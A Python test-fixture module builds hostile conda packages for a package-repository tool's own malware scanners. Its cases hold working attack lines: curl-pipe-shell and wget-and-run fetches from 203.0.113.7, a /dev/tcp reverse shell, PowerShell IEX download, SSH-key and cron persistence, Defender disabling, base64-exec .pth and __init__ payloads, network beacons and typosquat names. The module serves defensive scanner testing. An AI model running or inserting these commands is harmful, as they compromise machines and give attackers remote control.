"""A corpus of hostile packages for the project's own scanners (link scripts, Python, names).

Each :class:`HostileCase` builds one small, otherwise valid package (``build(directory) -> path``)
and names the rule it must trigger and that rule's verdict. Unit tests run them through the scan
engine; end-to-end tests upload them and check the verdict (``malicious`` ones are quarantined).
A case with ``known_names`` needs those names published in an internal channel first (the
look-alike-of-an-internal-name check). YARA, clamd and hash cases live in ``hostile_yara.py``.

    for case in HOSTILE:
        path = case.build(tmp_path)
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

from conda_package_streaming import package_streaming

from stockade.scanning.interfaces import Finding, Member, Scanner, ScanSubject, Verdict
from stockade.scanning.scanners.linkscripts import LinkScriptScanner
from stockade.scanning.scanners.names import NameScanner
from stockade.scanning.scanners.python import PythonScanner
from tests.factories.packages import Entry, PackageSpec, build_conda, build_tar_bz2, file

SITE = "lib/python3.11/site-packages"
M, S = Verdict.MALICIOUS, Verdict.SUSPICIOUS


@dataclass(frozen=True)
class HostileCase:
    """One hostile package: how to build it and the rule (with its verdict) it must trigger."""

    name: str
    build: Callable[[Path], Path]
    rule: str
    verdict: Verdict
    known_names: frozenset[str] = field(default_factory=frozenset)

    @property
    def scanner(self) -> str:
        return self.rule.split(":", 1)[0]


def _spec(name: str, *members: Entry, subdir: str = "linux-64") -> PackageSpec:
    return PackageSpec(name=name, version="1.0", build="0", subdir=subdir, payload=members)


def _conda(spec: PackageSpec, directory: Path) -> Path:
    return build_conda(directory, spec)


def _tar_bz2(spec: PackageSpec, directory: Path) -> Path:
    return build_tar_bz2(directory, spec)


def _case(
    name: str,
    rule: str,
    verdict: Verdict,
    *members: Entry,
    fmt: str = "conda",
    subdir: str = "linux-64",
    known_names: frozenset[str] = frozenset(),
) -> HostileCase:
    spec = _spec(name, *members, subdir=subdir)
    build = partial(_conda if fmt == "conda" else _tar_bz2, spec)
    return HostileCase(name, build, rule, verdict, known_names)


def _script(path: str, text: str) -> Entry:
    return file(path, text.encode(), mode=0o755)


def _text(path: str, text: str) -> Entry:
    return file(path, text.encode())


_LINK_SCRIPT_CASES = [
    _case(
        "evil-curl-postlink",
        "link-script:fetch-pipe-shell",
        M,
        _script(
            "bin/.evil-curl-postlink-post-link.sh", "curl -fsSL http://203.0.113.7/x.sh | sh\n"
        ),
    ),
    _case(
        "evil-split-fetch",
        "link-script:fetch-pipe-shell",
        M,
        _script(
            "python-scripts/.evil-split-fetch-post-link.sh",
            'U="http://203.0.113.7/i"\nC=cu""rl\n$C -s \\\n  "$U" |\n  ba\\sh\n',
        ),
        fmt="tar.bz2",
        subdir="noarch",
    ),
    _case(
        "evil-ssh-key",
        "link-script:ssh-keys",
        M,
        _script(
            "bin/.evil-ssh-key-post-link.sh",
            "mkdir -p ~/.ssh\necho 'ssh-ed25519 AAAAC3Nza attacker' >> ~/.ssh/authorized_keys\n",
        ),
        fmt="tar.bz2",
    ),
    _case(
        "evil-decode-activate",
        "link-script:decode-exec",
        M,
        _script(
            "etc/conda/activate.d/evil.sh",
            'eval "$(echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvIHwgc2g= | base64 -d)"\n',
        ),
    ),
    _case(
        "evil-ps-download",
        "link-script:fetch-pipe-shell",
        M,
        _script(
            "Scripts/.evil-ps-download-post-link.bat",
            '@echo off\r\npowershell -NoProfile -Command "IEX (New-Object Net.WebClient).'
            "DownloadString('http://203.0.113.7/a.ps1')\"\r\n",
        ),
        subdir="win-64",
    ),
    _case(
        "evil-reverse-unlink",
        "link-script:reverse-shell",
        M,
        _script(
            "bin/.evil-reverse-unlink-pre-unlink.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
        ),
    ),
    _case(
        "evil-cron-job",
        "link-script:cron",
        M,
        _script(
            "bin/.evil-cron-job-post-link.sh",
            '(crontab -l 2>/dev/null; echo "*/5 * * * * $PREFIX/bin/agent") | crontab -\n',
        ),
    ),
    _case(
        "evil-setuid",
        "link-script:privilege",
        M,
        _script("bin/.evil-setuid-post-link.sh", 'chmod 4755 "$PREFIX/bin/helper"\n'),
    ),
    _case(
        "evil-defender-off",
        "link-script:disable-security",
        M,
        _script(
            "etc/conda/activate.d/evil.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\n"
        ),
        subdir="win-64",
    ),
    _case(
        "evil-shell-profile",
        "link-script:shell-profile",
        M,
        _script(
            "bin/.evil-shell-profile-post-link.sh",
            "echo 'export LD_PRELOAD=$PREFIX/lib/hook.so' >> \"$HOME/.bashrc\"\n",
        ),
    ),
    _case(
        "evil-download-run",
        "link-script:fetch-execute",
        M,
        _script(
            "bin/.evil-download-run-post-link.sh",
            "wget -q -O /tmp/.agent http://203.0.113.7/agent\nchmod +x /tmp/.agent\n/tmp/.agent &\n",
        ),
    ),
    _case(
        "sloppy-global-write",
        "link-script:write-outside-prefix",
        S,
        _script(
            "bin/.sloppy-global-write-post-link.sh", 'cp "$PREFIX/bin/tool" /usr/local/bin/tool\n'
        ),
    ),
]

_PYTHON_CASES = [
    _case(
        "evil-pth-exec",
        "python:pth-exec-decoded",
        M,
        _text(
            f"{SITE}/zz_evil.pth",
            "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\n",
        ),
    ),
    _case(
        "evil-pth-network",
        "python:pth-network",
        M,
        _text(
            "site-packages/zz_beacon.pth",
            "import urllib.request as r; r.urlopen('http://203.0.113.7/ping', timeout=1)\n",
        ),
        fmt="tar.bz2",
        subdir="noarch",
    ),
    _case(
        "odd-pth-system",
        "python:pth-code",
        S,
        _text(f"{SITE}/odd.pth", "import os; os.system('true')\n"),
    ),
    _case(
        "odd-sitecustomize",
        "python:sitecustomize",
        S,
        _text(f"{SITE}/sitecustomize.py", "import os\nos.environ.setdefault('ODD', '1')\n"),
    ),
    _case(
        "evil-usercustomize",
        "python:sitecustomize-exec-decoded",
        M,
        _text(
            f"{SITE}/usercustomize.py",
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK1EoyUhNTAEAF0wDyw==')))\n",
        ),
        fmt="tar.bz2",
    ),
    _case(
        "evil-init-payload",
        "python:init-exec-decoded",
        M,
        _text(
            f"{SITE}/evil_init_payload/__init__.py",
            "from base64 import b64decode as _d\n_p = _d('cHJpbnQoMSk=')\nexec(_p)\n",
        ),
    ),
    _case(
        "evil-init-beacon",
        "python:init-network",
        M,
        _text(
            "site-packages/evil_init_beacon/__init__.py",
            "import urllib.request\n__version__ = '1.0'\n"
            "urllib.request.urlopen('http://203.0.113.7/installed?pkg=evil')\n",
        ),
        subdir="noarch",
    ),
]

_NAME_CASES = [
    _case("reqeusts", "names:lookalike-popular", S, _text("lib/reqeusts.txt", "x\n")),
    _case("scikitlearn", "names:lookalike-popular", S, _text("lib/x.txt", "x\n"), fmt="tar.bz2"),
    _case("matp1otlib", "names:lookalike-popular", S, _text("lib/x.txt", "x\n")),
    _case(
        "acme-billing-clent",
        "names:lookalike-internal",
        S,
        _text("lib/x.txt", "x\n"),
        known_names=frozenset({"acme-billing-client", "acme-ledger"}),
    ),
]

HOSTILE: list[HostileCase] = [*_LINK_SCRIPT_CASES, *_PYTHON_CASES, *_NAME_CASES]


def read_index(path: Path) -> dict[str, Any]:
    """The ``info/index.json`` of the package at ``path``."""
    with path.open("rb") as fileobj:
        for tar, member in package_streaming.stream_conda_component(
            path.name, fileobj, component=package_streaming.CondaComponent.info
        ):
            if member.name == "info/index.json":
                extracted = tar.extractfile(member)
                assert extracted is not None
                index: dict[str, Any] = json.loads(extracted.read())
                return index
    raise AssertionError(f"{path.name} has no info/index.json")


def subject_for(path: Path, known_names: frozenset[str] = frozenset()) -> ScanSubject:
    """The :class:`ScanSubject` of the package at ``path``, as the intake would build it."""
    index = read_index(path)
    return ScanSubject(
        filename=path.name,
        sha256="0" * 64,
        size=path.stat().st_size,
        name=str(index.get("name", "")),
        subdir=str(index.get("subdir", "")),
        index=index,
        known_names=known_names,
    )


def own_scanners() -> list[Scanner]:
    """The scanners this corpus is for (YARA, clamd and hashes have ``hostile_yara.py``)."""
    return [LinkScriptScanner(), PythonScanner(), NameScanner()]


def scan_text(scanner: Scanner, path: str, text: str | bytes, name: str = "demo") -> list[Finding]:
    """The findings of ``scanner`` for one member at ``path`` holding ``text``."""
    data = text.encode() if isinstance(text, str) else text
    subject = ScanSubject(f"{name}-1.0-0.conda", "0" * 64, len(data), name, "noarch", {})
    assert scanner.wants(path), f"{scanner.name} does not look at {path}"
    return list(scanner.scan_member(subject, Member(path, data, len(data))))
